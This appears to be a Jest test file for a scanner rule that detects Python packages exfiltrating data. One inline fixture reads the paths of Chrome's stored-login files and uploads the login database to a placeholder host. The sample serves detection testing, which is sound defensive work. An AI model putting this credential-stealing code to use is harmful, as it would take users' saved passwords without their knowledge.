import { describe, expect, it } from '@jest/globals';
import { pyExfiltration } from '../../../src/analysis/rules/py-exfiltration.js';
import { gating, run, runOn } from './helpers.js';

describe('py-exfiltration', () => {
  it('flags the technique in a fixture package', async () => {
    const findings = await run(pyExfiltration, 'py-exfiltration/positive');
    expect(findings.length).toBeGreaterThan(0);
    expect(findings[0].rule).toBe('py-exfiltration');
    expect(findings[0].severity).toBe('high');
    expect(findings[0].message.length).toBeGreaterThan(20);
    expect(findings[0].line).toBeGreaterThan(0);
  });

  it('stays below the gate on the legitimate look-alike', async () => {
    expect(gating(await run(pyExfiltration, 'py-exfiltration/negative'))).toEqual([]);
  });

  it('flags credential stores read and posted from an imported module', async () => {
    const findings = await runOn(pyExfiltration, 'pypi', {
      'demo/__init__.py': [
        'import os, requests',
        "state = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Local State')",
        "logins = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')",
        "requests.post('https://collect.example.invalid', files={'a': open(logins, 'rb')})",
      ].join('\n'),
    });
    expect(findings[0].severity).toBe('critical');
  });
});
